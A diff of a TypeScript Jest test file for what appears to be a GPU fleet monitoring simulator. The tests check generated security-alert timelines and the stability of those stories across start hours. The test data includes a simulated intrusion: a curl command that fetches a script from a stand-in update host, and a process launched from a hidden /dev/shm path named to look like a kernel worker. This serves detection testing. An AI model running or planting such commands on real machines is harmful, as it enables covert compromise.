@@ -2,6 +2,9 @@ import { DAY_MS, HOUR_MS } from '@gpu-observatory/domain-types';
 import { beforeAll, describe, expect, test } from '@jest/globals';
 import { readFile } from 'node:fs/promises';
 import { createInterface } from 'node:readline';
+import { buildFleet } from '../src/fleet/fleet.ts';
+import { resolveOptions } from '../src/options.ts';
+import { planStories } from '../src/stories/stories.ts';
 import { demoNow, demoTenants } from './support/demo-tenants.ts';
 import { startSimulator } from './support/simulator-process.ts';
 import { ObservedGpu } from './support/observed-gpu.ts';
@@ -191,6 +194,9 @@ describe.each(customers)('the stories of customer %i', (customer) => {
     const commands = timelines.get(String(alert['id']))!.map(({ command_line: command }) => command);
     expect(commands).toContain('curl -fsSL http://updates.example.com/i.sh');
     expect(commands.some((command) => String(command).startsWith('/dev/shm/.x/kworkerd'))).toBe(true);
+    const [server, shell, download] = timelines.get(String(alert['id']))!;
+    expect(shell!['event_info']).toMatch(new RegExp(`, ppid ${String(server!['pid'])}$`));
+    expect(download!['event_info']).toMatch(new RegExp(`, ppid ${String(shell!['pid'])}$`));
   });
 
   test('hosts get a new driver, until one stops reporting', () => {
@@ -204,6 +210,23 @@ describe.each(customers)('the stories of customer %i', (customer) => {
     const drivers = gpusOf(customer).filter(({ inventory }) => models.has(inventory['model']));
     expect(new Set(drivers.map(({ inventory }) => inventory['driver_version'])).size).toBe(2);
   });
+});
+
+test('the stories are the same at each hour of a start', () => {
+  const storiesAt = (start: Date) => {
+    const simulation = resolveOptions({ now: start, tenants: demoTenants });
+    const stories = planStories(simulation, buildFleet(simulation));
+    return customers.map((customer) =>
+      stories.alerts
+        .get(customer)!
+        .map(({ title, host, at }) => [title, host.hostname, start.getTime() - at]),
+    );
+  };
+  const first = storiesAt(demoNow);
+  expect(first.map((titles) => titles.length > 12)).toEqual(customers.map(() => true));
+  for (let hour = 1; hour < 24; hour++) {
+    expect(storiesAt(new Date(demoNow.getTime() + hour * HOUR_MS))).toEqual(first);
+  }
 });
 
 test('alert ids are distinct, states and ages follow their distribution, texts have no placeholders', () => {
